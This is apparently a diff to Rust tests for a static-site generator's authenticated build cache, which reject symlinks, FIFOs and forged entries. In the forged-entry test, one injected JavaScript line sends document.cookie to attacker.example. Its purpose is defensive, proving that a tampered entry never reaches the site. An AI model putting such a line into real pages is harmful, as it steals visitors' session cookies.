@@ -12,7 +12,8 @@ use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
-/// A site with a small catalogue (one search shard) and a key folder of its own.
+/// A site with a small catalogue (six episodes: seven parts of the search index in the
+/// cache) and a key folder of its own.
 struct Cached {
     site: Site,
     keys: tempfile::TempDir,
@@ -73,12 +74,18 @@ impl Cached {
         v.sort();
         v
     }
+    /// The entries that hold Pagefind's search script (one).
+    fn script_entries(&self) -> Vec<PathBuf> {
+        let holds_script =
+            |p: &PathBuf| parse_entry(&std::fs::read(p).unwrap()).1.iter().any(|(f, _)| f == "pagefind/pagefind.js");
+        self.entries().into_iter().filter(holds_script).collect()
+    }
 }
 
-/// "(F of its S shards from the cache)" of a build's progress lines.
+/// "(F of its S parts from the cache...)" of a build's progress lines.
 fn shards_from_cache(stderr: &str) -> (usize, usize) {
-    let line = stderr.lines().find(|l| l.contains("shards from the cache")).unwrap_or_else(|| panic!("{stderr}"));
-    let inner = line[..line.find("shards from").unwrap()].rsplit_once('(').unwrap().1;
+    let line = stderr.lines().find(|l| l.contains("parts from the cache")).unwrap_or_else(|| panic!("{stderr}"));
+    let inner = line[..line.find("parts from").unwrap()].rsplit_once('(').unwrap().1;
     let words: Vec<&str> = inner.split_whitespace().collect();
     (words[0].parse().unwrap(), words[3].parse().unwrap())
 }
@@ -103,7 +110,8 @@ fn the_cache_never_writes_through_a_symbolic_link() {
     let c = Cached::new();
     c.build_ok();
     let reference = tree(&c.site.out(""));
-    let [entry] = &c.entries()[..] else { panic!("one shard, one entry: {:?}", c.entries()) };
+    assert_eq!(c.entries().len(), 7, "an entry per episode and the script's");
+    let [entry] = &c.script_entries()[..] else { panic!("one entry: {:?}", c.entries()) };
 
     let outside = tempfile::tempdir().unwrap();
     let precious = outside.path().join("precious.txt");
@@ -137,7 +145,7 @@ fn the_cache_never_writes_through_a_symbolic_link() {
         assert!(line.ends_with(')'), "the warning ends with what to do: {line}");
     }
     assert!(troubleshooting().contains("### a symbolic link in the build cache"));
-    assert_eq!(shards_from_cache(&c.build_ok()), (1, 1), "and the cache works again");
+    assert_eq!(shards_from_cache(&c.build_ok()), (7, 7), "and the cache works again");
 }
 
 #[test]
@@ -175,7 +183,7 @@ fn a_cache_entry_that_is_a_fifo_or_a_link_to_dev_zero_is_not_read() {
     let c = Cached::new();
     c.build_ok();
     let reference = tree(&c.site.out(""));
-    let [entry] = &c.entries()[..] else { panic!("one entry: {:?}", c.entries()) };
+    let [entry] = &c.script_entries()[..] else { panic!("one entry: {:?}", c.entries()) };
 
     // A FIFO: opening it to read would wait for a writer forever.
     std::fs::remove_file(entry).unwrap();
@@ -209,7 +217,7 @@ fn a_cache_entry_that_is_a_fifo_or_a_link_to_dev_zero_is_not_read() {
     for h in ["not a regular file in the build cache", "a file over N MB in the build cache"] {
         assert!(page.contains(h), "troubleshooting.md explains `{h}`");
     }
-    assert_eq!(shards_from_cache(&c.build_ok()), (1, 1));
+    assert_eq!(shards_from_cache(&c.build_ok()), (7, 7));
 }
 
 // 7. A cache entry is authenticated: one forged with a recomputed checksum is not used.
@@ -258,7 +266,7 @@ fn a_forged_cache_entry_never_reaches_the_site() {
     c.build_ok();
     let reference = tree(&c.site.out(""));
     assert!(reference.contains_key("pagefind/pagefind.js"));
-    let [entry] = &c.entries()[..] else { panic!("one entry: {:?}", c.entries()) };
+    let [entry] = &c.script_entries()[..] else { panic!("one entry: {:?}", c.entries()) };
     let (head, mut files) = parse_entry(&std::fs::read(entry).unwrap());
     let js = files.iter_mut().find(|(p, _)| p == "pagefind/pagefind.js").expect("the entry holds pagefind.js");
     js.1 = b"fetch('https://attacker.example/?' + document.cookie);".to_vec();
@@ -267,9 +275,9 @@ fn a_forged_cache_entry_never_reaches_the_site() {
     std::fs::write(entry, forge(&head, &files)).unwrap();
 
     let stderr = c.build_ok();
-    assert_eq!(shards_from_cache(&stderr), (0, 1), "the forged entry is not used");
+    assert_eq!(shards_from_cache(&stderr), (6, 7), "the forged entry is not used");
     assert!(tree(&c.site.out("")) == reference, "the site is exactly a clean build's");
-    assert_eq!(shards_from_cache(&c.build_ok()), (1, 1), "the entry made again is used");
+    assert_eq!(shards_from_cache(&c.build_ok()), (7, 7), "the entry made again is used");
 
     // The key that authenticates entries is the user's, outside the site, private.
     let key = c.keys.path().join("shownotes/cache-key");
@@ -281,7 +289,7 @@ fn a_forged_cache_entry_never_reaches_the_site() {
     // Another user's key (or none): the entry is not theirs to use.
     let other = tempfile::tempdir().unwrap();
     let (code, stderr) = c.build_with(other.path());
-    assert_eq!((code, shards_from_cache(&stderr)), (0, (0, 1)));
+    assert_eq!((code, shards_from_cache(&stderr)), (0, (0, 7)));
     // No key can be made (a cache folder that cannot be created): no cache at all.
     let file = other.path().join("a-file");
     std::fs::write(&file, "").unwrap();
